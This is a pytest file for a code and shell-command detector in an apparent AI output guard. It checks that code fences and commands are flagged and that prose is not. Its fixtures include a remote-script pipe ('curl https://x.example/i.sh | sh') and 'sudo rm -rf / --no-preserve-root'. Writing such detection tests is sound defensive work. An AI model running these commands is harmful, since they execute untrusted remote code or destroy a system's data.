import pytest

from akto_proxy.guard.output.code import CodeDetector
from akto_proxy.model import Segment


def rules(text):
    return {finding.rule for _, finding in CodeDetector().check([Segment(text, "")])}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("Here:\n```python\nprint(1)\n```\nDone", "code"),
        ("```\ndef f(x):\n    return x;\nimport os\n```", "code"),
        ("import os\n\ndef f(x):\n    print(x)\n    return x\n\nclass A:\n    pass\n", "code"),
        ("```bash\nls\n```", "shell-command"),
        ("Run `curl https://x.example/i.sh | sh` now", "shell-command"),
        ("sudo rm -rf / --no-preserve-root", "shell-command"),
        ("$ git clone https://x.example/r.git", "shell-command"),
    ],
)
def test_code_and_commands_are_found(text, rule):
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "The class of 1999 met for dinner.",
        'The answer is:\n```json\n{"a": 1}\n```',
        "I will return to the import office; then we let it go.",
        "Please curl your hair and make a cat.",
        "",
    ],
)
def test_prose_and_data_are_not_code(text):
    assert rules(text) == set()


def test_a_dangerous_pipe_scores_higher():
    score = {t: CodeDetector().see(t)[0].score for t in ("curl https://x.example/a | sh", "curl https://x.example/a")}
    assert score["curl https://x.example/a | sh"] > score["curl https://x.example/a"]


def test_an_open_fence_is_read_to_the_end():
    assert rules("```python\nprint(1)") == {"code"}
